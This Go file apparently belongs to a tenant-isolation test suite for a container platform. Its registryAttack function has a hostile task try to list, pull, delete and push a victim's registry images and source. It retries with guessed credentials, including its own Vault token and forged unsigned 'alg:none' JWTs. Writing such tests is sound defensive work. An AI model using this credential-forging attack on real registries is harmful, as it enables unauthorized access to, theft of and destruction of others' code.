package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strings"
	"time"
)

// registryAttack tries the cloudspace's registry through its own HTTP API: the catalog,
// the victim's manifest and a blob of its image, its uploaded source, a delete and a
// push. Each request that the registry answers with a token challenge is tried again
// with whatever token the challenge's realm (wharfd) gives for what the task can find
// on its node: nothing, its own Vault token as a node's or a builder's password, and a
// hand-made unsigned credential. The status reported is the registry's last answer;
// the body lists what the realm said to each guess.
func registryAttack(vaultToken string) []attempt {
	reg := os.Getenv("HOSTILE_REGISTRY")
	repo, manifest, source := os.Getenv("VICTIM_REPO"), os.Getenv("VICTIM_MANIFEST"), os.Getenv("VICTIM_SOURCE")
	unsigned := func(claims string) string {
		enc := base64.RawURLEncoding.EncodeToString
		return enc([]byte(`{"alg":"none","typ":"JWT"}`)) + "." + enc([]byte(claims)) + "."
	}
	exp := time.Now().Add(time.Hour).Unix()
	guesses := []struct{ user, password string }{
		{"", ""},
		{"node", vaultToken},
		{"build", vaultToken},
		{"node", unsigned(fmt.Sprintf(`{"iss":"wharfd","aud":"wharf-registry-credential","exp":%d,"wharf":{"kind":"node","region":"local","node":"any"}}`, exp))},
		{"build", unsigned(fmt.Sprintf(`{"iss":"wharfd","aud":"wharf-registry-credential","exp":%d,"wharf":{"kind":"build","org":"acme","app":"victim","build":"any"}}`, exp))},
	}
	try := func(name, method, u string) attempt {
		a := call(name, method, u, "", nil)
		if a.Status != http.StatusUnauthorized {
			return a
		}
		realm, params := challenge(u, method)
		if realm == "" {
			return a
		}
		var said []string
		for _, g := range guesses {
			q := url.Values{}
			for k, v := range params {
				q.Set(k, v)
			}
			req, _ := http.NewRequest(http.MethodGet, realm+"?"+q.Encode(), nil)
			if g.user != "" {
				req.SetBasicAuth(g.user, g.password)
			}
			resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
			if err != nil {
				said = append(said, err.Error())
				continue
			}
			var tok struct{ Token string }
			json.NewDecoder(io.LimitReader(resp.Body, 1<<16)).Decode(&tok)
			resp.Body.Close()
			said = append(said, fmt.Sprintf("realm as %q: %d", g.user, resp.StatusCode))
			if resp.StatusCode == http.StatusOK && tok.Token != "" {
				b := call(name, method, u, "", map[string]string{"Authorization": "Bearer " + tok.Token})
				said = append(said, fmt.Sprintf("registry with that token: %d", b.Status))
				if b.Status < 400 {
					a.Status, a.Body = b.Status, b.Body
					return a
				}
			}
		}
		a.Body = strings.Join(said, "; ") + " | " + a.Body
		return a
	}
	return []attempt{
		call("registry: version check (reachable)", "GET", reg+"/v2/", "", nil),
		try("registry: list the catalog", "GET", reg+"/v2/_catalog"),
		try("registry: pull the victim's manifest", "GET", reg+"/v2/"+repo+"/manifests/"+manifest),
		try("registry: pull a blob of the victim's image", "GET", reg+"/v2/"+repo+"/blobs/"+manifest),
		try("registry: fetch the victim's uploaded source", "GET", reg+"/v2/"+repo+"/sources/blobs/"+source),
		try("registry: delete the victim's source", "DELETE", reg+"/v2/"+repo+"/sources/blobs/"+source),
		try("registry: push to the victim's repository", "POST", reg+"/v2/"+repo+"/blobs/uploads/"),
	}
}

var challengeParam = regexp.MustCompile(`(\w+)="([^"]*)"`)

// challenge asks u anonymously for its token challenge: the realm and its parameters.
func challenge(u, method string) (string, map[string]string) {
	req, _ := http.NewRequest(method, u, nil)
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
	if err != nil {
		return "", nil
	}
	resp.Body.Close()
	params := map[string]string{}
	for _, m := range challengeParam.FindAllStringSubmatch(resp.Header.Get("WWW-Authenticate"), -1) {
		params[m[1]] = m[2]
	}
	realm := params["realm"]
	delete(params, "realm")
	return realm, params
}
